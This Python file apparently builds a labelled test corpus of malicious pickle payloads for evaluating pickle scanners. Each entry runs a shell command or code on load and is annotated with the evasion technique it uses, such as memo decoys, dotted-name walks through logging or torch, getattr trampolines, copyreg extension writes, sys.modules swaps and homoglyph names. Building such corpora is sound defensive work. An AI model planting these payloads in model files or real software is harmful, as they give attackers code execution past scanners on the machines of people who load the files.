"""p-import: the ways in which a pickle can name a callable."""
from .assemble import *
from .sample import Shelf

shelf = Shelf("p-import")
add = shelf.add
SHELL = text(COMMAND)


def run(function):
    """A protocol-4 pickle that calls the assembled `function` with the shell command."""
    return PROTO4 + call(function, SHELL) + STOP


def evaluate(function):
    return PROTO4 + call(function, text(CODE)) + STOP


add("control-global", "os", PROTO2 + call(glob("os", "system"), binunicode(COMMAND)) + STOP,
    "a plain GLOBAL of os.system: what every scanner must find")
add("control-global", "posix", PROTO2 + call(glob("posix", "system"), binunicode(COMMAND)) + STOP,
    "os under the name of its C module")
add("control-global", "nt", PROTO2 + call(glob("nt", "system"), binunicode(COMMAND)) + STOP,
    "os under its Windows name", executes=False)
add("control-global", "proto0", evil_text(), "protocol 0, text only")
add("control-global", "exec", PROTO2 + call(glob("__builtin__", "eval"), binunicode(CODE)) + STOP,
    "the Python 2 name of builtins, mapped while loading")
add("control-global", "popen", PROTO4 + call(sg("subprocess", "check_call"),
    lst(text("echo"), text(MARKER))) + STOP, "subprocess with an argument list")

add("sg-memo-get", "binget",
    PROTO4 + text("system") + binput(7) + POP + text("os") + binput(9) + POP + binget(9)
    + binget(7) + STACK_GLOBAL + SHELL + TUPLE1 + REDUCE + STOP,
    "both operands of STACK_GLOBAL come out of the memo")
add("sg-memo-get", "long_binget",
    PROTO4 + text("system") + binput(70000) + POP + text("os") + binput(70001) + POP
    + binget(70001) + binget(70000) + STACK_GLOBAL + SHELL + TUPLE1 + REDUCE + STOP,
    "the same with four-byte memo indices")
add("sg-memo-get", "text_get",
    PROTO4 + text("os") + put(3) + POP + text("system") + put(4) + POP + get(3) + get(4)
    + STACK_GLOBAL + SHELL + TUPLE1 + REDUCE + STOP, "the same with text PUT and GET")
add("sg-memo-get", "decoys",
    PROTO4 + text("os") + MEMOIZE + text("system") + MEMOIZE + text("collections")
    + text("OrderedDict") + POP + POP + POP + POP + binget(0) + binget(1) + STACK_GLOBAL + SHELL
    + TUPLE1 + REDUCE + STOP, "the last two literals before STACK_GLOBAL are decoys")

add("sg-dup-name", "timeit", PROTO4 + text("timeit") + DUP + STACK_GLOBAL
    + tup(text("pass"), text(CODE), sg("time", "perf_counter"), integer(1)) + REDUCE + STOP,
    "one literal doubled by DUP names timeit.timeit; the code is its set-up argument")
add("sg-dup-name", "glob", PROTO4 + text("glob") + DUP + STACK_GLOBAL + tup(text("*")) + REDUCE
    + STOP, "glob.glob lists the folder", expected="suspicious")

for variant, module, name in [
        ("logging", "logging", "os.system"), ("random", "random", "_os.system"),
        ("tempfile", "tempfile", "_os.system"), ("posixpath", "posixpath", "os.system"),
        ("bootstrap", "importlib._bootstrap_external", "_os.system")]:
    add("dotted-proto4", variant, run(sg(module, name)),
        f"under protocol 4 the name is walked: {module} has os as an attribute")
add("dotted-proto4", "two_hops", evaluate(sg("json", "codecs.builtins.exec")),
    "two modules further: json, codecs, builtins")
add("dotted-proto4", "torch", run(sg("torch", "os.system")),
    "through a package that every allow-list holds", loader="pickle+torch")

add("dotted-global-text", "global", PROTO4 + call(glob("logging", "os.system"), SHELL) + STOP,
    "a dotted name in a text GLOBAL is walked too once PROTO said 4")
add("dotted-global-text", "inst", PROTO4 + MARK + SHELL + inst("logging", "os.system") + STOP,
    "the same by INST")

add("proto-switch", "two_then_four",
    PROTO2 + NONE + POP + PROTO4 + call(glob("logging", "os.system"), SHELL) + STOP,
    "a second PROTO raises the level, so that dots are walked")
add("proto-switch", "four_then_two",
    PROTO4 + EMPTY_LIST + POP + PROTO2 + call(glob("__builtin__", "exec"), text(CODE)) + STOP,
    "a second PROTO lowers the level, so that Python 2 names are mapped")
add("proto-switch", "stack_global_two", PROTO2 + call(sg("__builtin__", "exec"), text(CODE)) + STOP,
    "STACK_GLOBAL, an opcode of protocol 4, obeys the Python 2 map of PROTO 2")

OS_MODULE = call(sg("importlib", "import_module"), text("os"))
add("resolve-trampoline", "getattr", run(call(sg("builtins", "getattr"), OS_MODULE,
    text("system"))), "import_module and getattr: no opcode names os")
add("resolve-trampoline", "dunder_import", run(call(sg("builtins", "getattr"),
    call(sg("builtins", "__import__"), text("os")), text("system"))), "__import__ and getattr")
add("resolve-trampoline", "getattr_static", run(call(sg("inspect", "getattr_static"), OS_MODULE,
    text("system"))), "inspect.getattr_static is a getattr by another name")
add("resolve-trampoline", "attrgetter", run(call(call(sg("operator", "attrgetter"),
    text("system")), OS_MODULE)), "operator.attrgetter")
add("resolve-trampoline", "c_operator", PROTO4 + call(call(sg("_operator", "methodcaller"),
    text("system"), SHELL), OS_MODULE) + STOP, "methodcaller from the C module of operator")
add("resolve-trampoline", "resolve_name", run(call(sg("pkgutil", "resolve_name"),
    text("os:system"))), "pkgutil.resolve_name")
add("resolve-trampoline", "locate", run(call(sg("pydoc", "locate"), text("os.system"))),
    "pydoc.locate")
add("resolve-trampoline", "vars", run(call(sg("operator", "getitem"),
    call(sg("builtins", "vars"), OS_MODULE), text("system"))), "vars and operator.getitem")
add("resolve-trampoline", "joined_name", run(call(sg("builtins", "getattr"), OS_MODULE,
    call(sg("builtins", "str.join"), text(""), lst(text("sys"), text("tem"))))),
    "the attribute name is put together while loading")

add("name-from-attribute", "os_name",
    run(sg("logging", "os.name") + text("system") + STACK_GLOBAL),
    "the module operand is the string os.name, itself fetched by STACK_GLOBAL")
add("name-from-attribute", "dunder_name",
    run(sg("logging", "os.__name__") + text("system") + STACK_GLOBAL),
    "the module operand is os.__name__")
CARRIER = sg("types", "SimpleNamespace")
HOLDER = sg("argparse", "Namespace")
add("name-from-attribute", "stored",
    PROTO4 + slots(HOLDER, text("one"), text("os"), text("two"), text("system")) + POP
    + sg("argparse", "Namespace.one") + sg("argparse", "Namespace.two") + STACK_GLOBAL + SHELL
    + TUPLE1 + REDUCE + STOP, "both operands are read back from attributes set by BUILD")

add("setattr-on-import", "class_alias",
    PROTO4 + slots(HOLDER, text("helper"), OS_MODULE) + POP
    + call(sg("argparse", "Namespace.helper.system"), SHELL) + STOP,
    "a harmless class is given os as an attribute by slot state")
add("setattr-on-import", "module_alias",
    PROTO4 + slots(call(sg("importlib", "import_module"), text("argparse")), text("run"), SYSTEM)
    + POP + call(sg("argparse", "run"), SHELL) + STOP, "BUILD on a module object")

add("ext-table-write", "inverted",
    PROTO4 + sg("copyreg", "_inverted_registry") + integer(201) + tup(text("os"), text("system"))
    + SETITEM + POP + call(ext1(201), SHELL) + STOP,
    "SETITEM registers an extension code, EXT1 uses it")
add("ext-table-write", "cache",
    PROTO4 + sg("copyreg", "_extension_cache") + integer(700) + SYSTEM + SETITEM + POP
    + call(ext2(700), SHELL) + STOP, "straight into the cache of extensions, used by EXT2")

add("sys-modules-swap", "alias",
    PROTO4 + sg("sys", "modules") + text("mymodel") + sg("logging", "os") + SETITEM + POP
    + call(sg("mymodel", "system"), SHELL) + STOP, "os under the name of a private module")
add("sys-modules-swap", "self",
    PROTO4 + sg("sys", "modules") + binput(0) + text("sys") + binget(0) + SETITEM + POP
    + call(sg("sys", "get"), text("posix")) + binput(1) + POP + binget(0) + text("sys")
    + binget(1) + SETITEM + POP + call(sg("sys", "system"), SHELL) + STOP,
    "sys becomes the dict of modules, then posix")
add("sys-modules-swap", "dotted",
    PROTO4 + sg("logging", "sys.modules") + text("torch._fake") + sg("logging", "os") + SETITEM
    + POP + call(sg("torch._fake", "system"), SHELL) + STOP,
    "the module table by way of logging, the alias looks like torch",
    loader="pickle+torch")

add("import-only", "antigravity", PROTO4 + sg("antigravity", "geohash") + STOP,
    "importing the module opens a web browser", executes=False)
add("import-only", "this", PROTO4 + sg("this", "d") + STOP,
    "importing runs module code (it prints a poem)", expected="suspicious")
add("import-only", "unknown", PROTO4 + sg("some_private_package.layers", "Block") + STOP,
    "a module that nobody knows, never called", expected="suspicious")
add("import-only", "sidecar", PROTO4 + sg("helper_of_model", "Thing") + STOP,
    "the module lies beside the model; importing runs it",
    companions={"helper_of_model.py": f"class Thing:\n    pass\n\n\n{CODE}\n".encode()})

add("nonascii-name", "global",
    PROTO4 + slots(HOLDER, text("größe"), SYSTEM) + POP
    + call(glob("argparse", "Namespace.größe"), SHELL) + STOP,
    "a UTF-8 name in GLOBAL: readers that decode ASCII stop before the payload")
add("nonascii-name", "homoglyph", PROTO4 + sg("о" + "s", "system") + STOP,
    "a Cyrillic o: does not resolve, but is made to deceive", expected="suspicious")

add("subclasses-walk", "object", PROTO4 + call(sg("builtins", "object.__subclasses__")) + STOP,
    "the first step of a walk to every loaded class", expected="suspicious")
add("subclasses-walk", "globals",
    run(call(sg("operator", "getitem"), sg("os", "popen.__globals__"), text("system"))),
    "the globals of a function lead back to its module")
